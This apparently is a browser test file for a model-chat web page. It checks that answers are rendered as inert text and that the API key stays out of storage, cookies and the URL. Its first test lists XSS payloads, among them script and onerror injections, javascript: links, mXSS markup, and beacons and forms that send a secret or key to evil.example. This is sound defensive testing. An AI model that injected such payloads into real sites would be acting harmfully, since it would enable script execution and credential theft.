/** The page at `/` among people who mean harm: what a model writes, and where the key is. */
import assert from "node:assert/strict";

import { KEY, THINKER } from "../support.mjs";
import { check } from "./chromium.mjs";
import { ask, usePage } from "./visit.mjs";

const { stack, visit, visitWithKey } = usePage();

check("an answer is text: nothing in it runs, loads or disguises itself", async () => {
  const attacks = [
    '<script>window.pwned = "script"</script>',
    '<img src=x onerror="window.pwned = \'onerror\'">',
    "<svg onload=\"window.pwned='svg'\"><a href=\"javascript:pwned=1\">x</a></svg>",
    "[click](javascript:window.pwned='link')",
    "[click](JaVaScRiPt:window.pwned='link2')",
    "[data](data:text/html,<script>window.pwned='data'</script>)",
    "[vb](vbscript:msgbox)",
    "![remote](https://evil.example/collect?secret=1)",
    "![here](/api/v1/models)",
    "![svg](data:image/svg+xml;base64,PHN2Zy8+)",
    "![a](x\"onerror=\"window.pwned='alt')",
    '<iframe src="https://evil.example"></iframe><object data="https://evil.example"></object><embed src="https://evil.example">',
    '<form action="https://evil.example"><input name=key><button>Send the key</button></form>',
    '<style>body{display:none}</style><link rel=stylesheet href="https://evil.example/x.css"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<base href="https://evil.example/"><a id=key name=key href=x>clobber</a>',
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned='mxss'>",
    '```"><img src=x onerror=window.pwned=1>\ncode\n```',
    "| a |\n|---|\n| <img src=https://evil.example/t> |",
    "<https://evil.example/auto>",
  ];
  await visitWithKey(async (page) => {
    await page.selectOption("#model", THINKER);
    stack.upstream.queue({ reasoning: attacks[1], text: attacks.join("\n\n") });
    await ask(page, attacks[0]);
    await page.waitForTimeout(300);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const found = await page.evaluate(() => {
      const box = document.querySelector(".answer");
      const all = [...box.querySelectorAll("*")];
      return {
        forbidden: all.map(({ localName }) => localName).filter((name) => /^(script|iframe|object|embed|form|input|style|link|meta|base|svg|math|img)$/.test(name)),
        handlers: all.flatMap((element) => element.getAttributeNames()).filter((name) => /^on|^style$|^id$|^name$/.test(name)),
        links: [...box.querySelectorAll("a")].map((link) => [link.protocol, link.target, link.rel].join(" ")),
        text: box.innerText,
      };
    });
    assert.deepEqual(found.forbidden, []);
    assert.deepEqual(found.handlers, []);
    assert.ok(found.links.length >= 2, "harmless links stay links");
    for (const link of found.links) assert.ok(/^(?:https: |: )_blank noopener noreferrer$/.test(link), link);
    assert.ok(found.text.includes('<script>window.pwned = "script"</script>'), "HTML is shown as text");
    assert.ok(await page.locator("#key").isVisible());
    assert.equal(await page.locator(".question .words").innerText(), attacks[0]);
  });
});

check("the key is in this tab alone", async () => {
  await visitWithKey(async (page, context) => {
    await ask(page, "Hello?");
    const kept = await page.evaluate(() => [JSON.stringify(localStorage), document.cookie, location.href, document.documentElement.outerHTML].join("\n"));
    assert.ok(!kept.includes(KEY));
    assert.deepEqual((await context.cookies()), []);
    await page.reload();
    assert.equal(await page.locator("#key").inputValue(), KEY);
    const other = await context.newPage();
    await other.goto(`${stack.url}/`);
    assert.equal(await other.locator("#key").inputValue(), "");
    await page.click("#key-forget");
    assert.equal(await page.evaluate(() => sessionStorage.getItem("key")), null);
    await page.getByRole("button", { name: "Show" }).click();
    assert.equal(await page.locator("#key").getAttribute("type"), "text");
  });
});

check("a browser that denies storage has the page all the same", async () => {
  await visit(stack.url, async (_page, context) => {
    await context.addInitScript(() => {
      Object.defineProperty(window, "sessionStorage", { get: () => { throw new DOMException("denied", "SecurityError"); } });
    });
    const page = await context.newPage();
    await page.goto(`${stack.url}/#key=${KEY}`);
    await page.waitForSelector("#list li");
    assert.equal(await page.locator("#key").inputValue(), KEY);
    await ask(page, "Hello?");
    assert.ok(await page.locator(".answer .facts").isVisible());
    await page.click("#languages [value=zh]");
    assert.equal(await page.locator("#playground-title").innerText(), "试一试");
  });
});

check("a link can bring the key, which leaves the address, and never replaces one", async () => {
  await visit(stack.url, async (page, context) => {
    const asked = [];
    context.on("request", (request) => asked.push(request.url()));
    const other = await context.newPage();
    await other.goto(`${stack.url}/#key=${KEY}%20`);
    await other.waitForSelector("#list li");
    assert.equal(await other.locator("#key").inputValue(), KEY);
    assert.equal(other.url(), `${stack.url}/`);
    await other.goto(`${stack.url}/?again#key=sk-of-somebody-else`);
    await other.waitForSelector("#list li");
    assert.equal(await other.locator("#key").inputValue(), KEY);
    assert.equal(await other.evaluate(() => history.length), 3);
    assert.ok(!asked.some((url) => new URL(url).pathname.includes("key")));
    await other.goto(`${stack.url}/#key=%`);
    await other.waitForSelector("#list li");
    await other.click("#key-forget");
    await other.evaluate((key) => (location.hash = `key=${key}`), KEY);
    await other.waitForFunction((key) => document.getElementById("key").value === key, KEY);
    assert.equal(new URL(other.url()).hash, "", "in a tab that is open already, too");
  });
});
